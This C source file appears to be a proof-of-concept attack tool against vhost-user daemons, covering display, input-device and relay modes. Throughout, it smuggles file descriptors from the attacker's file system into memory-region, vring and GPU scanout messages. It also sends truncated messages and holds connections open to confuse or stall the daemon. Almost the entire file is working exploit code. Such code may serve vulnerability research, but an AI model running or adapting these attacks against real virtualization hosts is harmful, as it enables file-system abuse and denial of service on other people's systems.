/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Files of somebody else's file system, sent as whatever the daemon takes an fd for.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "vhost_user.h"
#include "vhost_user_gpu.h"

#define GUEST_ADDRESS UINT64_C(0x10000000)
#define FILE_SIZE (1u << 20)

static int open_file(const char *path)
{
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0)
		attack_fail(path);
	return fd;
}

/* ---- display ---- */

static void send_with(int socket, uint32_t request, const void *payload, uint32_t size, int fd)
{
	struct {
		struct vhost_user_gpu_header header;
		uint8_t payload[64];
	} __attribute__((packed)) message = {.header = {request, 0, size}};

	memcpy(message.payload, payload, size);
	if (!attack_send(socket, &message, sizeof(message.header) + size, &fd, 1))
		attack_fail("display");
}

void attack_display(char **arguments)
{
	const struct vhost_user_gpu_dmabuf_scanout dmabuf = {.width = 512,
		.height = 512,
		.fd_width = 512,
		.fd_height = 512,
		.fd_stride = 2048,
		.fd_drm_fourcc = 0x34325258};
	const struct vhost_user_gpu_cursor_pos cursor = {0, 1, 1};
	int socket = -1;

	for (char **file = arguments + 1; *file; file++) {
		int fd = open_file(*file);

		/* As a back-end that goes: the daemon has the next one's. */
		if (socket >= 0)
			close(socket);
		socket = attack_connect(arguments[0]);
		if (socket < 0)
			attack_fail(arguments[0]);
		send_with(socket, VHOST_USER_GPU_CURSOR_POS, &cursor, sizeof(cursor), fd);
		send_with(socket, VHOST_USER_GPU_DMABUF_SCANOUT, &dmabuf, sizeof(dmabuf), fd);
		send_with(socket, VHOST_USER_GPU_CURSOR_POS, &cursor, sizeof(cursor), fd);
		/* Half a message. */
		if (!attack_send(socket, &cursor, 4, &fd, 1))
			attack_fail("display");
	}
	/* The file stays open here: its close() would wait, too. */
	close(socket);
	attack_done();
	attack_hold();
}

/* ---- an input device ---- */

static bool ask(int socket, uint32_t request, const void *payload, uint32_t size, int fd)
{
	struct {
		struct vhost_user_header header;
		uint8_t payload[64];
	} __attribute__((packed)) message = {.header = {request, VHOST_USER_VERSION, size}};

	memcpy(message.payload, payload, size);
	return attack_send(socket, &message, sizeof(message.header) + size, &fd, fd >= 0 ? 1 : 0);
}

static void give_file(const char *path, int fd)
{
	const struct {
		uint64_t padding;
		struct vhost_user_memory_region region;
	} __attribute__((packed)) add = {0, {0, FILE_SIZE, GUEST_ADDRESS, 0}};
	const struct vhost_user_vring_state size = {0, 4}, base = {0, 0};
	const struct vhost_user_vring_address address = {0, 0, GUEST_ADDRESS,
		GUEST_ADDRESS + 0x1000, GUEST_ADDRESS + 0x2000, 0};
	const uint64_t features = UINT64_C(1) << 32, queue = 0;
	const uint32_t with_fd[] = {VHOST_USER_SET_VRING_CALL, VHOST_USER_SET_VRING_ERR,
		VHOST_USER_SET_VRING_KICK};

	/* What is not taken ends the connection: each on its own one. */
	for (size_t i = 0; i <= sizeof(with_fd) / sizeof(*with_fd); i++) {
		int socket = attack_connect(path);

		if (socket < 0)
			attack_fail(path);
		ask(socket, VHOST_USER_SET_FEATURES, &features, sizeof(features), -1);
		if (i == 0)
			ask(socket, VHOST_USER_ADD_MEM_REG, &add, sizeof(add), fd);
		ask(socket, VHOST_USER_SET_VRING_NUM, &size, sizeof(size), -1);
		ask(socket, VHOST_USER_SET_VRING_BASE, &base, sizeof(base), -1);
		ask(socket, VHOST_USER_SET_VRING_ADDR, &address, sizeof(address), -1);
		if (i > 0)
			ask(socket, with_fd[i - 1], &queue, sizeof(queue), fd);
		/* One front-end at a time: the next one waits until this one has gone. */
		shutdown(socket, SHUT_WR);
		while (recv(socket, &(char){0}, 1, 0) > 0)
			;
		close(socket);
	}
}

void attack_memory(char **arguments)
{
	for (char **file = arguments + 1; *file; file++)
		give_file(arguments[0], open_file(*file));
	attack_done();
	attack_hold();
}

/* ---- the relay ---- */

void attack_relay(char **arguments)
{
	const struct {
		struct vhost_user_header header;
		uint64_t queue;
	} __attribute__((packed)) call = {{VHOST_USER_SET_VRING_CALL, VHOST_USER_VERSION, 8}, 0};
	int door = attack_listen(arguments[1]);
	int fd = open_file(arguments[2]);
	int vmm = attack_connect(arguments[0]);
	int backend;
	char byte;

	if (vmm < 0)
		attack_fail(arguments[0]);
	backend = accept(door, NULL, NULL);
	/* The back-end has what it was sent when it has read it: it does not take the fd. */
	if (backend < 0 || !attack_send(vmm, &call, sizeof(call), &fd, 1) ||
		recv(backend, &byte, 1, 0) != 1)
		attack_fail("relay");
	/* Both go with fds under way. */
	attack_send(vmm, &call, sizeof(call), &fd, 1);
	attack_send(backend, &call, sizeof(call), &fd, 1);
	shutdown(vmm, SHUT_RDWR);
	shutdown(backend, SHUT_RDWR);
	attack_done();
	attack_hold();
}
